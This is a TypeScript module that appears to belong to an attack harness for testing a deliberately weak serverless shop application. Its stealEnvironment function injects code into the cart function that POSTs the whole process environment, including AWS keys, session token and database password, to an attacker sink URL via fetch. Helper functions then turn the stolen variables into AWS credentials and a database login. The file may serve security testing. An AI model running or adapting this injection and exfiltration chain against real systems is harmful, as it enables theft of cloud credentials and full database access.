import type { AttackContext } from "../../attack.ts";
import type { DatabaseLogin, StolenCredentials } from "../../aws-session.ts";
import type { Exchange } from "../../exchange.ts";
import { codeInCart, restore } from "./requests.ts";

/** The variables of a hijacked function: its role's credentials, and where its database is. */
export type StolenEnvironment = Readonly<Record<string, string | undefined>>;

/**
 * Runs code in the cart function that sends its whole environment away: on weak the database's password is in it.
 *
 * @returns the request's answer, and the environment where the code ran
 */
export async function stealEnvironment(
  context: AttackContext,
): Promise<{ answer: Exchange; stolen: StolenEnvironment | undefined }> {
  const token = context.sink.token();
  const thief = `fetch("${context.sink.url}/${token}",{method:"POST",body:JSON.stringify(process.env)})`;
  const answer = await context.send(restore(context, codeInCart(thief)));
  const [hit] = context.sink.hits(token);
  return { answer, stolen: hit && (JSON.parse(hit.body) as StolenEnvironment) };
}

/** The credentials of the function's role. */
export function credentialsOf(stolen: StolenEnvironment): StolenCredentials {
  return {
    accessKeyId: stolen.AWS_ACCESS_KEY_ID ?? "",
    secretAccessKey: stolen.AWS_SECRET_ACCESS_KEY ?? "",
    sessionToken: stolen.AWS_SESSION_TOKEN ?? "",
  };
}

/**
 * A login to the function's database.
 *
 * @param user the user whom a token is for, by default the function's own; where there is a password, it is the one all-powerful user's
 */
export function loginOf(stolen: StolenEnvironment, user?: string): DatabaseLogin {
  const { DATABASE_PASSWORD: password, DATABASE_CA: ca, DATABASE_USER: own = "" } = stolen;
  return {
    host: stolen.DATABASE_HOST ?? "",
    port: Number(stolen.DATABASE_PORT),
    name: stolen.DATABASE_NAME ?? "",
    user: password === undefined ? (user ?? own) : own,
    ...(password !== undefined && { password }),
    ...(ca !== undefined && { ca }),
  };
}
